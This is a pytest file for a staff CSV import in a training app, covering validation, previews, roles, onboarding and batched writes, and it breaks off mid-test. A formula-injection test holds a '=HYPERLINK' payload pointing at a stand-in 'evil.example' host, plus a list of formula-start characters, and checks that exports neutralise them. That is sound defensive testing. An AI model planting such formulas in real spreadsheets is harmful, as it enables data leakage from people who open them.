"""The staff import: a good file builds the organisation, a bad one is refused whole, with lines."""
import csv
import io
import re
import threading
import time
from datetime import date, datetime, timedelta

import pytest
from conftest import TODAY, login, make_app, make_org, migrated_sqlite, signed_in
from sqlalchemy import event, func, select

from trainer.cli import main as trainer_cli
from trainer.extensions import db
from trainer.models import (
    Assignment,
    Attempt,
    AttemptPrinciple,
    Department,
    StaffUpload,
    Team,
    User,
    UserRole,
    team_managers,
)
from trainer.store import content, org, reports, staff_import, staff_uploads

HEADER = "name,email,department,team,manager_email,role,start_date"
# Nina's and Olek's manager, Mona, is listed after them; Pia's manager Sam too.
GOOD = f"""{HEADER}
Nina New,nina@example.com,Sales,Showroom,mona@example.com,,2026-04-01
Olek Nowak,olek@example.com,Sales,Showroom,MONA@example.com,employee,01.04.2026
Pia Support,pia@example.com,Support,Claims,sam@example.com,employee,
Sam Lead,sam@example.com,Support,Claims,,employee,15/01/2025
Mona Lead,Mona@Example.com,Sales,Showroom,,employee;manager,2025-01-15
Hana People,hana@example.com,People,HR,,hr,
"""


@pytest.fixture
def app(small_app):
    """The app on the small scenarios folder (tests/small_content.py)."""
    return small_app


def test_the_shipped_content_has_the_module_new_hires_get(library):
    assert staff_import.ONBOARDING in library.modules


def import_text(text: str, onboarding: bool = False, today: date | None = None):
    plan = staff_import.read(text)
    assert plan.errors == []
    return staff_import.apply(plan, onboarding, today or TODAY)


def counts() -> dict[str, int]:
    return {model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
            for model in (User, Team, Department, Assignment)}


def dump() -> dict:
    """Everything an import may touch, as plain values (ids included: nothing is replaced)."""
    users = db.session.scalars(select(User).order_by(User.id))
    return {
        "users": [(u.id, u.email, u.name, u.team_id, u.start_date, sorted(u.roles), u.active,
                   u.password_hash, u.session_token) for u in users],
        "departments": db.session.execute(select(Department.id, Department.name)
                                          .order_by(Department.id)).all(),
        "teams": db.session.execute(select(Team.id, Team.department_id, Team.name)
                                    .order_by(Team.id)).all(),
        "managers": sorted(db.session.execute(select(team_managers)).all()),
        "assignments": db.session.execute(
            select(Assignment.id, Assignment.user_id, Assignment.module_id, Assignment.due_date,
                   Assignment.assigned_at, Assignment.started_at, Assignment.completed_at)
            .order_by(Assignment.id)).all(),
    }


def person(email: str) -> User:
    return db.session.scalar(select(User).filter_by(email=email))


def team_of(email: str) -> tuple[str, str]:
    team = person(email).team
    return team.department.name, team.name


# --- a good file ---------------------------------------------------------------------------


def test_a_good_file_builds_departments_teams_people_roles_and_managers(app):
    with app.app_context():
        done = import_text(GOOD)
        assert (done.created, done.updated, done.unchanged, done.onboarded) == (6, 0, 0, 0)
        assert [d.name for d in db.session.scalars(select(Department).order_by(Department.name))] \
            == ["People", "Sales", "Support"]
        assert sorted((t.department.name, t.name) for t in db.session.scalars(select(Team))) \
            == [("People", "HR"), ("Sales", "Showroom"), ("Support", "Claims")]
        expected = {
            "nina@example.com": ("Nina New", ("Sales", "Showroom"), {"employee"},
                                 date(2026, 4, 1)),
            "olek@example.com": ("Olek Nowak", ("Sales", "Showroom"), {"employee"},
                                 date(2026, 4, 1)),
            "pia@example.com": ("Pia Support", ("Support", "Claims"), {"employee"}, None),
            "sam@example.com": ("Sam Lead", ("Support", "Claims"), {"employee", "manager"},
                                date(2025, 1, 15)),
            "mona@example.com": ("Mona Lead", ("Sales", "Showroom"), {"employee", "manager"},
                                 date(2025, 1, 15)),
            "hana@example.com": ("Hana People", ("People", "HR"), {"hr"}, None),
        }
        for email, (name, team, roles, start) in expected.items():
            user = person(email)
            assert (user.name, team_of(email), user.roles, user.start_date) == \
                (name, team, roles, start), email
            assert user.password_hash is None  # cannot sign in until an admin sets one
        managers = {t.name: [m.email for m in t.managers] for t in db.session.scalars(select(Team))}
        assert managers == {"Showroom": ["mona@example.com"], "Claims": ["sam@example.com"],
                            "HR": []}


def test_columns_are_matched_by_name_in_any_order_with_windows_line_ends(app):
    text = ("Start Date,Role,Manager_Email,Team,Department,Email,Name\r\n"
            "2026-04-01,,,Showroom,Sales,nina@example.com,Nina New\r\n")
    with app.app_context():
        import_text(text)
        assert (person("nina@example.com").name, team_of("nina@example.com")) == \
            ("Nina New", ("Sales", "Showroom"))


def test_the_preview_says_what_each_row_will_do_and_writes_nothing(app):
    with app.app_context():
        before = dump()
        plan = staff_import.read(GOOD)
        assert [(row.line, row.action) for row in plan.rows] == \
            [(line, "create") for line in range(2, 8)]
        assert dump() == before

        import_text(GOOD)
        changed = (GOOD.replace("Nina New", "Nina Nowa")
                   .replace("Olek Nowak,olek@example.com,Sales,Showroom",
                            "Olek Nowak,olek@example.com,Sales,Key accounts")
                   .replace("sam@example.com,employee,", "sam@example.com,employee;hr,")
                   + "Rob Recruit,rob@example.com,Sales,Showroom,mona@example.com,,\n")
        plan = staff_import.read(changed)
        assert plan.errors == []
        actions = {row.email: (row.action, row.changes) for row in plan.rows}
        assert actions == {
            "nina@example.com": ("update", ["name: Nina New → Nina Nowa"]),
            "olek@example.com": ("update", ["team: Sales / Showroom → Sales / Key accounts",
                                            "manager: mona@example.com"]),
            "pia@example.com": ("update", ["roles: add hr"]),
            "sam@example.com": ("unchanged", []),
            "mona@example.com": ("unchanged", []),
            "hana@example.com": ("unchanged", []),
            "rob@example.com": ("create", []),
        }
        assert (plan.count("create"), plan.count("update"), plan.count("unchanged")) == (1, 3, 3)


def test_an_update_moves_people_and_adds_roles_but_never_takes_one_away(app):
    with app.app_context():
        import_text(GOOD)
        user = person("hana@example.com")
        user.role_rows.append(UserRole(role="admin"))  # granted by hand
        db.session.commit()
        import_text(GOOD.replace("Hana People,hana@example.com,People,HR,,hr,",
                                 "Hana People,hana@example.com,People,Payroll,,employee,"))
        assert person("hana@example.com").roles == {"hr", "admin", "employee"}
        assert team_of("hana@example.com") == ("People", "Payroll")


def test_importing_the_same_file_twice_changes_nothing(app):
    with app.app_context():
        import_text(GOOD, onboarding=True)
        before = dump()
        plan = staff_import.read(GOOD)
        assert {row.action for row in plan.rows} == {"unchanged"}
        done = staff_import.apply(plan, True, TODAY)
        assert (done.created, done.updated, done.unchanged, done.onboarded) == (0, 0, 6, 0)
        db.session.expire_all()
        assert dump() == before


def test_a_deactivated_person_in_the_file_stays_deactivated_and_is_not_an_update(app):
    with app.app_context():
        import_text(GOOD)
        org.deactivate(person("pia@example.com"))
        db.session.commit()
        before = dump()
        plan = staff_import.read(GOOD)
        pia = next(row for row in plan.rows if row.email == "pia@example.com")
        assert (pia.action, pia.changes) == \
            ("unchanged", ["deactivated: stays deactivated (reactivate by hand)"])
        assert plan.count("unchanged") == 6
        staff_import.apply(plan, True, TODAY)
        assert dump() == before

        plan = staff_import.read(GOOD.replace("Pia Support", "Pia Nowak"))
        pia = next(row for row in plan.rows if row.email == "pia@example.com")
        assert pia.action == "update"
        staff_import.apply(plan, True, TODAY)
        assert (person("pia@example.com").name, person("pia@example.com").active) == \
            ("Pia Nowak", False)


# --- a bad file ----------------------------------------------------------------------------

GOOD_ROW = "Nina New,nina@example.com,Sales,Showroom,,,2026-04-01"

# One bad row on line 3 after a good one on line 2: what the error says.
BAD_ROWS = {
    "bad email": ("Bo Bad,bo@@example,Sales,Showroom,,,", "'bo@@example' is not a valid email"),
    "empty email": ("Bo Bad,,Sales,Showroom,,,", "'email' is empty"),
    "empty name": (",bo@example.com,Sales,Showroom,,,", "'name' is empty"),
    "empty team": ("Bo Bad,bo@example.com,Sales,,,,", "'team' is empty"),
    # Found tried as a new user would: 03/04/2026 was silently read day-first.
    "ambiguous date": ("Bo Bad,bo@example.com,Sales,Showroom,,,03/04/2026",
                       "start date '03/04/2026' could be 3 April or 4 March; write it as "
                       "2026-04-03 or 2026-03-04"),
    "unknown manager": ("Bo Bad,bo@example.com,Sales,Showroom,ghost@example.com,,",
                        "manager ghost@example.com is neither in the file nor a known person"),
    "own manager": ("Bo Bad,bo@example.com,Sales,Showroom,bo@example.com,,",
                    "a person cannot be their own manager"),
    "bad date": ("Bo Bad,bo@example.com,Sales,Showroom,,,2026-02-30",
                 "start date '2026-02-30' is not a date"),
    "not a date": ("Bo Bad,bo@example.com,Sales,Showroom,,,next monday",
                   "start date 'next monday' is not a date"),
    "unknown role": ("Bo Bad,bo@example.com,Sales,Showroom,,employee;chief,",
                     "unknown role 'chief'"),
    "too few values": ("Bo Bad,bo@example.com,Sales", "3 values, but the header names 7"),
    "too many values": ("Bo Bad,bo@example.com,Sales,Showroom,,,,extra",
                        "8 values, but the header names 7"),
}


@pytest.mark.parametrize("row, message", BAD_ROWS.values(), ids=BAD_ROWS.keys())
def test_a_bad_row_is_reported_by_line_and_nothing_is_written(app, people, row, message):
    with app.app_context():
        before = counts()
        plan = staff_import.read(f"{HEADER}\n{GOOD_ROW}\n{row}\n")
        assert [e.line for e in plan.errors] == [3], plan.errors
        assert message in plan.errors[0].message
        assert str(plan.errors[0]).startswith("line 3: ")
        with pytest.raises(ValueError):
            staff_import.apply(plan, True, TODAY)
        assert counts() == before


BAD_HEADERS = {
    "missing column": ("name,email,department,team,manager_email,role",
                       "missing column(s): start_date"),
    "unknown column": (HEADER + ",phone", "unknown column(s): phone"),
    "renamed column": ("name,e-mail,department,team,manager_email,role,start_date",
                       "missing column(s): email; unknown column(s): e-mail"),
    "empty file": ("", "the file is empty"),
}


@pytest.mark.parametrize("header, message", BAD_HEADERS.values(), ids=BAD_HEADERS.keys())
def test_wrong_columns_are_an_error_on_line_1(app, header, message):
    with app.app_context():
        plan = staff_import.read(f"{header}\n{GOOD_ROW}\n" if header else "")
        assert [(e.line, message in e.message) for e in plan.errors] == [(1, True)], plan.errors
        assert plan.rows == []


def test_a_duplicate_email_names_both_lines(app):
    text = f"{HEADER}\n{GOOD_ROW}\nOlek,olek@example.com,Sales,Showroom,,,\n" \
           "Nina Again,NINA@example.com,Support,Claims,,,\n"
    with app.app_context():
        plan = staff_import.read(text)
        assert [str(e) for e in plan.errors] == ["line 4: nina@example.com is also on line 2"]


def test_a_manager_may_be_someone_already_in_the_database(app, people):
    text = f"{HEADER}\nBo New,bo@example.com,Sales,Showroom,ANN@example.com,,\n"
    with app.app_context():
        import_text(text)
        assert [m.email for m in person("bo@example.com").team.managers] == \
            ["ann@example.com", "mia@example.com"]
        assert "manager" in person("ann@example.com").roles


def test_every_error_is_reported_at_once_on_its_physical_line(app, people):
    # Line 3 holds a quoted cell that runs onto line 4, so later rows sit one line lower than
    # their row number; the error in the two-line row itself is reported where it starts.
    text = "\n".join([
        HEADER,                                                                     # 1
        GOOD_ROW,                                                                   # 2
        '"Ann\nSmith",ann.smith@example,Sales,Showroom,,,',                         # 3-4
        "Bo Bad,bo@example.com,Sales,Showroom,ghost@example.com,chief,1999-13-01",  # 5
        "",                                                                         # 6
        "Cy Short,cy@example.com",                                                  # 7
        "Nina Twice,nina@example.com,Sales,Showroom,,,",                            # 8
        '"Dee\nDee",dee@example.com,Sales,Showroom,nina@example.com,,',             # 9-10
        "Eve Bad,eve@example.com,Sales,Showroom,,,31.02.2026",                      # 11
    ]) + "\n"
    with app.app_context():
        before = counts()
        plan = staff_import.read(text)
        found = [(e.line, e.message.split(" (")[0]) for e in plan.errors]
        assert found == [
            (3, "'ann.smith@example' is not a valid email address"),
            (5, "unknown role 'chief'"),
            (5, "start date '1999-13-01' is not a date like 2026-03-31"),
            (7, "2 values, but the header names 7 columns"),
            (8, "nina@example.com is also on line 2"),
            (11, "start date '31.02.2026' is not a date like 2026-03-31"),
        ]
        assert counts() == before
        # The good rows are read, two-line name and all, with their own first lines.
        assert [(r.line, r.name) for r in plan.rows] == [(2, "Nina New"), (9, "Dee\nDee")]


def test_a_file_that_is_not_csv_gives_an_error_not_a_crash(app):
    # A stray carriage return inside a cell: the csv module refuses the rest of the file.
    text = f"{HEADER}\n{GOOD_ROW}\nBo Bad,bo@example.com,Sa\rles,Showroom,,,\n{GOOD_ROW}\n"
    with app.app_context():
        plan = staff_import.read(text)
        assert [e.line for e in plan.errors] == [3]
        assert "cannot be read as CSV" in plan.errors[0].message


# --- onboarding: the command line ----------------------------------------------------------

def hires_file(today: date) -> str:
    later, earlier = today + timedelta(days=30), today - timedelta(days=3)
    return (f"{HEADER}\n"
            f"Late Starter,late@example.com,Sales,Showroom,mia@example.com,,{later.isoformat()}\n"
            f"Early Starter,early@example.com,Sales,Showroom,,,{earlier.isoformat()}\n"
            "No Date,nodate@example.com,Support,Claims,,,\n"
            "Ann Employee,ann@example.com,Sales,Showroom,mia@example.com,,\n")


def onboarding_due() -> dict[str, date]:
    return dict(db.session.execute(
        select(User.email, Assignment.due_date).join(Assignment, Assignment.user_id == User.id)
        .where(Assignment.module_id == staff_import.ONBOARDING)).all())


def expected_due(today: date) -> dict[str, date]:
    """Two weeks from the start date, or from today when they started already."""
    return {"late@example.com": today + timedelta(days=30 + 14),
            "early@example.com": today + timedelta(days=14),
            "nodate@example.com": today + timedelta(days=14)}


def run_cli(app, tmp_path, text: str | bytes, *options: str):
    path = tmp_path / "staff.csv"
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return app.test_cli_runner().invoke(trainer_cli, ["import-staff", str(path), *options])


def test_the_command_gives_new_hires_onboarding_but_not_people_already_there(app, people,
                                                                              tmp_path):
    today = TODAY
    result = run_cli(app, tmp_path, hires_file(today), "--commit", "--onboarding")
    assert result.exit_code == 0, result.output
    assert "Imported: 3 created, 0 updated, 1 unchanged; 3 given onboarding." in result.output
    with app.app_context():
        assert content.module(staff_import.ONBOARDING) is not None
        assert onboarding_due() == expected_due(today)


def test_the_command_without_onboarding_assigns_nothing(app, people, tmp_path):
    result = run_cli(app, tmp_path, hires_file(TODAY), "--commit", "--no-onboarding")
    assert result.exit_code == 0, result.output
    assert "3 created" in result.output and "0 given onboarding" in result.output
    with app.app_context():
        assert person("late@example.com") is not None
        assert onboarding_due() == {}


def test_the_command_previews_without_commit(app, people, tmp_path):
    with app.app_context():
        before = dump()
    result = run_cli(app, tmp_path, hires_file(TODAY))
    assert result.exit_code == 0, result.output
    assert "line 2: create late@example.com" in result.output
    assert "Preview: 3 to create, 0 to update, 1 unchanged" in result.output
    with app.app_context():
        assert dump() == before


def test_the_command_reports_every_bad_line_with_the_file_name_and_writes_nothing(
        app, people, tmp_path):
    text = f"{HEADER}\n{GOOD_ROW}\n{BAD_ROWS['bad email'][0]}\n{BAD_ROWS['bad date'][0]}\n"
    with app.app_context():
        before = dump()
    result = run_cli(app, tmp_path, text, "--commit")
    assert result.exit_code == 1
    assert "staff.csv:3: 'bo@@example' is not a valid email" in result.output
    assert "staff.csv:4: start date '2026-02-30'" in result.output
    assert "Nothing was written: 2 problem(s)." in result.output
    with app.app_context():
        assert dump() == before


# --- onboarding: the browser ---------------------------------------------------------------

def upload(client, text: str | bytes, filename: str = "staff.csv"):
    raw = text.encode("utf-8") if isinstance(text, str) else text
    return client.post("/admin/import", data={"upload-file": (io.BytesIO(raw), filename)},
                       content_type="multipart/form-data")


TOKEN_FIELD = re.compile(r'name="confirm-token" type="hidden" value="([^"]+)"')


def token_of(preview) -> str:
    """The token the preview's confirm form sends back for the file kept at the upload."""
    found = TOKEN_FIELD.search(preview.text)
    assert found, "the preview offers no confirm form"
    return found.group(1)


def confirm(client, token: str, onboarding: bool):
    data = {"confirm-token": token}
    if onboarding:
        data["confirm-onboarding"] = "y"
    return client.post("/admin/import", data=data)


def upload_and_confirm(client, text: str, onboarding: bool):
    preview = upload(client, text)
    assert preview.status_code == 200, preview.text
    return confirm(client, token_of(preview), onboarding)


@pytest.mark.parametrize("who", ["hugo", "ada"])
def test_hr_and_admins_preview_then_confirm_an_import_in_the_browser(app, client, people, who):
    today = TODAY
    text = hires_file(today)
    login(client, who)
    with app.app_context():
        before = dump()
    preview = upload(client, "\ufeff" + text)
    assert preview.status_code == 200
    assert "Preview: 3 to create, 0 to update, 1 unchanged" in preview.text
    with app.app_context():
        assert dump() == before

    done = confirm(client, token_of(preview), onboarding=True)
    assert done.status_code == 302 and done.location == "/admin/import"
    assert "Imported: 3 created, 0 updated, 1 unchanged; 3 given onboarding." in \
        client.get("/admin/import").text
    with app.app_context():
        assert onboarding_due() == expected_due(today)
        assigned_by = set(db.session.scalars(select(Assignment.assigned_by_id)))
        assert assigned_by == {people.ids[who]}


def test_confirming_without_the_onboarding_box_assigns_nothing(app, client, people):
    login(client, "hugo")
    assert upload_and_confirm(client, hires_file(TODAY), onboarding=False).status_code == 302
    with app.app_context():
        assert person("late@example.com") is not None and onboarding_due() == {}


@pytest.mark.parametrize("who", ["ann", "mia"])
def test_employees_and_managers_cannot_import(app, client, people, who):
    hugo = app.test_client()
    login(hugo, "hugo")
    token = token_of(upload(hugo, GOOD))
    login(client, who)
    with app.app_context():
        before = dump()
    assert client.get("/admin/import").status_code == 403
    assert upload(client, GOOD).status_code == 403
    assert confirm(client, token, onboarding=True).status_code == 403
    with app.app_context():
        assert dump() == before


def test_a_bad_file_in_the_browser_lists_its_errors_and_writes_nothing(app, client, people):
    text = f"{HEADER}\n{GOOD_ROW}\n{BAD_ROWS['unknown manager'][0]}\n"
    login(client, "hugo")
    with app.app_context():
        before = dump()
    response = upload(client, text)
    assert response.status_code == 422
    assert "Nothing was written: 1 problem to fix" in response.text
    assert "line 3: manager ghost@example.com is neither in the file nor a known person" in \
        response.text
    assert 'name="confirm-token"' not in response.text
    with app.app_context():
        assert dump() == before
        assert db.session.scalar(select(func.count()).select_from(StaffUpload)) == 0


def test_only_an_administrator_can_grant_the_admin_role_by_import(app, client, people):
    text = (f"{HEADER}\nHugo HR,hugo@example.com,Sales,Showroom,,hr;admin,\n"
            "Ada Admin,ada@example.com,Sales,Showroom,,admin,\n")
    login(client, "hugo")
    with app.app_context():
        person("ada@example.com").team_id = people.teams["x"]  # her row changes nothing
        db.session.commit()
        before = dump()
    response = upload(client, text)
    assert response.status_code == 422
    # Ada is an administrator already, so only Hugo's row asks for something new.
    assert "line 2: only an administrator may grant the role(s): admin" in response.text
    assert "line 3:" not in response.text
    with app.app_context():
        assert dump() == before
    login(client, "ada")
    assert upload_and_confirm(client, text, onboarding=False).status_code == 302
    with app.app_context():
        assert person("hugo@example.com").roles == {"hr", "admin"}


def test_a_file_that_is_not_csv_by_name_is_refused_with_a_message(app, client, people):
    login(client, "hugo")
    response = upload(client, GOOD, filename="staff.xlsx")
    assert response.status_code == 422
    assert "A .csv file." in response.text


def test_a_file_that_is_not_utf8_is_refused_on_the_line_where_it_goes_wrong(app, client,
                                                                           people):
    login(client, "hugo")
    response = upload(client, GOOD.replace("Nina", "Ni\u00f1a").encode("latin-1"))
    assert response.status_code == 422
    assert "line 2: the file is not UTF-8 text from here on (byte 0xf1): save it as CSV " \
        "UTF-8" in response.text


# --- formulas stay text ------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","Click me")'
FORMULAS = (f"{HEADER}\n"
            f'"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}",f1@example.com,+Sales,@Floor,,,\n'
            "-2+3,f2@example.com,+Sales,@Floor,,,\n"
            "Plain Person,f3@example.com,Support,-Desk,,,\n")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_formula_like_cells_are_stored_as_text_and_neutralised_in_every_export(
        app, client, people):
    today = TODAY
    with app.app_context():
        import_text(FORMULAS, onboarding=True, today=today)
        assert person("f1@example.com").name == FORMULA_NAME
        assert team_of("f2@example.com") == ("+Sales", "@Floor")
        for a in db.session.scalars(select(Assignment)):
            a.due_date = today - timedelta(days=3)  # overdue: the names reach that export
        # A finished attempt that loses points: negative numbers must stay numbers.
        scenario_id = content.module(staff_import.ONBOARDING).scenarios[0]
        version = content.version_row(content.current(scenario_id))
        attempt = Attempt(user_id=person("f1@example.com").id, scenario_id=scenario_id,
                          version_id=version.id, seed=1, state={}, status=Attempt.FINISHED,
                          percent=0, finished_at=datetime.now())
        db.session.add(attempt)
        db.session.flush()
        db.session.add(AttemptPrinciple(attempt_id=attempt.id, principle_id="courtesy",
                                        earned=-7, best=5))
        db.session.commit()

    login(client, "hugo")
    cells = {}
    for name in reports.TABLES:
        response = client.get(f"/reports/{name}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        cells[name] = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        for cell in cells[name]:
            if cell.startswith(FORMULA_START):
                int(cell)  # the only cells allowed to start so are (negative) numbers
    assert "'" + FORMULA_NAME in cells["overdue"] and "'-2+3" in cells["overdue"]
    assert "'+Sales" in cells["department"] and "'+Sales" in cells["overdue"]
    assert {"'+Sales", "'@Floor", "'-Desk"} <= set(cells["team"])
    assert "-7" in cells["principles"]  # a negative number stays a number


# --- a large file: fast, and written in short transactions beside the play loop -----------

def staff_file(count: int, teams: int = 30, tag: str = "") -> str:
    """`count` people in `teams` teams of five departments; each team's lead is listed after
    the people they manage, so manager links reach across the file."""
    rows = [HEADER]
    for n in range(count - teams):
        team = n % teams
        rows.append(f"Person {tag}{n},p{tag}{n}@example.com,Dept {tag}{team % 5},"
                    f"Team {tag}{team},lead{tag}{team}@example.com,,2026-04-01")
    for team in range(teams):
        rows.append(f"Lead {tag}{team},lead{tag}{team}@example.com,Dept {tag}{team % 5},"
                    f"Team {tag}{team},,employee;manager,2025-01-15")
    return "\n".join(rows) + "\n"


def play_until(client, stop: threading.Event, recorded: list, failures: list) -> None:
    """Ann plays the late delivery over and over, one choice per request, until `stop`."""
    while not stop.is_set():
        try:
            page = client.post("/scenarios/late-delivery/attempts", data={"restart": "1"},
                               follow_redirects=True)
            while (found := CHOICE.search(page.text)) and not stop.is_set():
                attempt = page.request.path.rsplit("/", 1)[1]
                step = STEP_FIELD.search(page.text).group(1)
                page = client.post(f"/attempts/{attempt}/choices",
                                   data={"step": step, "choice": found.group(1)},
                                   follow_redirects=True)
                if page.status_code != 200:
                    failures.append(f"choice answered {page.status_code}")
                recorded.append(time.monotonic())
        except Exception as exc:  # "database is locked" arrives as an exception in tests
            failures.append(repr(exc))
            return


CHOICE = re.compile(r'name="choice" value="([^"]+)"')
STEP_FIELD = re.compile(r'name="step" value="([0-9]+)"')


def test_an_import_does_not_starve_the_play_loop(app, people):
    # A file-backed SQLite database has one write lock. An import that held it throughout made
    # players wait for all of it, and fail with a 500 once that was longer than a request
    # waits for the lock (busy_timeout); now each of its transactions is short, and players'
    # choices are recorded between them.
    text = staff_file(3000)
    player = app.test_client()
    login(player, "ann")
    importer, commits = threading.get_ident(), []

    def on_commit(_connection):
        if threading.get_ident() == importer:
            commits.append(time.monotonic())

    stop, recorded, failures = threading.Event(), [], []
    playing = threading.Thread(target=play_until, args=(player, stop, recorded, failures))
    with app.app_context():
        event.listen(db.engine, "commit", on_commit)
        playing.start()
        try:
            time.sleep(0.2)  # the player is under way
            done = import_text(text, onboarding=True)
        finally:
            stop.set()
            playing.join()
            event.remove(db.engine, "commit", on_commit)
    assert failures == []
    assert done.created == 3000 and done.onboarded == 3000
    meanwhile = [moment for moment in recorded if commits[0] < moment < commits[-1]]
    assert meanwhile, f"no choice was recorded between the import's {len(commits)} commits"


def statements_of(app, work) -> int:
    """How many SQL statements `work` runs (the project's way: tests/store/test_query_counts.py)."""
    statements = []

    def on_execute(*_args):
        statements.append(1)

    with app.app_context():
        event.listen(db.engine, "before_cursor_execute", on_execute)
        try:
            work()
        finally:
            event.remove(db.engine, "before_cursor_execute", on_execute)
    return len(statements)


def test_an_import_runs_no_more_statements_for_many_people_than_for_few(app, people):
    counts = {}
    for size in (40, 160):
        tag = f"s{size}-"
        text = staff_file(size, teams=size // 10, tag=tag)
        renamed = text.replace("Person ", "Person Renamed ").replace(",2026-04-01", ",2026-05-01")
        counts[size] = (statements_of(app, lambda t=text: import_text(t, onboarding=True)),
                        statements_of(app, lambda t=renamed: import_text(t, onboarding=True)),
                        statements_of(app, lambda t=renamed: import_text(t, onboarding=True)))
    (few_new, few_changed, few_same), (many_new, many_changed, many_same) = counts[40], counts[160]
    assert many_new <= few_new, f"new people: {few_new} statements, then {many_new}"
    assert many_changed <= few_changed, f"changes: {few_changed} statements, then {many_changed}"
    assert many_same <= few_same, f"no changes: {few_same} statements, then {many_same}"


class ProcessDied(Exception):
    """Stands for the import's process being killed."""


@pytest.mark.parametrize("batches_written", [1, 2, 4, 7])
def test_an_import_cut_off_between_batches_is_completed_by_importing_it_again(
        app, people, tmp_path, monkeypatch, batches_written):
    monkeypatch.setattr(staff_import, "BATCH", 10)
    # Departments, teams, five batches of people, then the manager links: eight batches.
    text = staff_file(45, teams=5)
    (tmp_path / "whole").mkdir()
    # The whole import, for comparison, on a database of its own (SQLite on any test run).
    whole = make_app(tmp_path / "whole", SCENARIOS_DIR=app.config["SCENARIOS_DIR"],
                     SQLALCHEMY_DATABASE_URI=migrated_sqlite(tmp_path / "whole" / "test.db"))
    make_org(whole)
    with whole.app_context():
        import_text(text, onboarding=True)
        expected = organisation()
        db.engine.dispose()

    written = []
    end_batch = staff_import._end_batch

    def dies_after_some_batches():
        end_batch()
        written.append(1)
        if len(written) == batches_written:
            raise ProcessDied

    with app.app_context():
        monkeypatch.setattr(staff_import, "_end_batch", dies_after_some_batches)
        with pytest.raises(ProcessDied):
            import_text(text, onboarding=True)
        db.session.rollback()
        monkeypatch.setattr(staff_import, "_end_batch", end_batch)
        assert organisation() != expected  # partly written
        import_text(text, onboarding=True)
        assert organisation() == expected
        assert {row.action for row in staff_import.read(text).rows} == {"unchanged"}


def organisation() -> dict:
    """People, teams, managers and onboarding as plain values without ids, to compare two
    databases."""
    return {
        "people": sorted((u.email, u.name, team_of(u.email) if u.team else None, u.start_date,
                          sorted(u.roles)) for u in db.session.scalars(select(User))),
        "managers": sorted((t.department.name, t.name, sorted(m.email for m in t.managers))
                           for t in db.session.scalars(select(Team))),
        "onboarding": sorted(onboarding_due().items()),
    }


def test_a_bad_row_at_the_end_of_a_long_file_writes_nothing(app, people, monkeypatch):
    monkeypatch.setattr(staff_import, "BATCH", 10)
    text = staff_file(300) + BAD_ROWS["bad date"][0] + "\n"
    with app.app_context():
        before = dump()
        plan = staff_import.read(text)
        assert [str(e) for e in plan.errors] == \
            ["line 302: start date '2026-02-30' is not a date like 2026-03-31"]
        with pytest.raises(ValueError):
            staff_import.apply(plan, True, TODAY)
        assert dump() == before


# --- the file waits on the server between the preview and the confirmation ---------------

def kept_files() -> int:
    return db.session.scalar(select(func.count()).select_from(StaffUpload))


def test_a_staff_file_near_the_request_limit_is_previewed_and_confirmed(app, client, people):
    limit = app.config["MAX_CONTENT_LENGTH"]
    rows = [HEADER] + [f"Person {n:06d},person{n:06d}@example.com,Department {n % 5},"
                       f"Team {n % 900:03d},,,2026-04-01" for n in range(limit // 82)]
    text = "\n".join(rows) + "\n"
    assert 0.9 * limit < len(text.encode()) < limit - 1000  # room for the form around it
    login(client, "hugo")
    preview = upload(client, text)
    assert preview.status_code == 200
    done = confirm(client, token_of(preview), onboarding=True)
    assert done.status_code == 302, done.status_code
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(User)) == 8 + len(rows) - 1


def test_the_confirm_form_sends_back_only_a_token_and_the_onboarding_box(app, client, people):
    login(client, "hugo")
    preview = upload(client, GOOD)
    [form] = [f for f in re.findall(r"<form.*?</form>", preview.text, re.S)
              if "confirm-onboarding" in f]
    assert set(re.findall(r'name="([^"]+)"', form)) == {"confirm-token", "confirm-onboarding"}
    assert "nina@example.com" not in form and len(token_of(preview)) <= 64
    with app.app_context():
        assert kept_files() == 1


def test_someone_elses_file_cannot_be_confirmed(app, people):
    hugo, ada = signed_in(app, "hugo", "ada")
    token = token_of(upload(hugo, GOOD))
    assert_refused(app, ada, token, 404, "No file of yours is waiting under this preview")
    assert confirm(hugo, token, onboarding=True).status_code == 302  # still waiting for Hugo


def assert_refused(app, client, token: str, status: int, message: str) -> None:
    """Confirming `token` is refused with `status` and `message`, and writes nothing."""
    with app.app_context():
        before = dump()
    response = confirm(client, token, onboarding=True)
    assert response.status_code == status and message in response.text
    with app.app_context():
        assert dump() == before


def test_a_kept_file_is_imported_once(app, client, people):
    login(client, "hugo")
    token = token_of(upload(client, GOOD))
    assert confirm(client, token, onboarding=True).status_code == 302
    with app.app_context():
        after = dump()
        assert kept_files() == 0
    again = confirm(client, token, onboarding=True)
    assert again.status_code == 404 and "Nothing was written" in again.text
    with app.app_context():
        assert dump() == after


def age_kept_files(minutes: int) -> None:
    for kept in db.session.scalars(select(StaffUpload)):
        kept.created_at -= timedelta(minutes=minutes)
    db.session.commit()


def test_a_preview_more_than_an_hour_old_is_refused_and_its_file_removed(app, client, people):
    login(client, "hugo")
    token = token_of(upload(client, GOOD))
    with app.app_context():
        age_kept_files(61)
    assert_refused(app, client, token, 410,
                   "This preview is more than an hour old. Nothing was written")
    with app.app_context():
        assert kept_files() == 0


def test_each_person_has_one_file_waiting_and_none_waits_past_an_hour(app, people):
    hugo, ada = signed_in(app, "hugo", "ada")
    first = token_of(upload(hugo, GOOD))
    token_of(upload(ada, GOOD))
    with app.app_context():
        age_kept_files(61)
    token_of(upload(hugo, hires_file(TODAY)))  # replaces Hugo's first, removes Ada's old one
    with app.app_context():
        assert kept_files() == 1
    assert confirm(hugo, first, onboarding=True).status_code == 404
    with app.app_context():
        hugo_user = person("hugo@example.com")
        limit = app.config["MAX_CONTENT_LENGTH"]
        with pytest.raises(ValueError):
            staff_uploads.keep(b"x" * (limit + 1), hugo_user)


def test_a_kept_file_is_checked_again_when_confirmed(app, client, people):
    login(client, "hugo")
    token = token_of(upload(client, f"{HEADER}\n"
                                     "Cat Employee,cat@example.com,Support,Claims,hugo@example.com,"
                                     "employee,\n"))
    with app.app_context():  # meanwhile an administrator joins Claims
        person("ada@example.com").team_id = people.teams["z"]
        db.session.commit()
        before = dump()
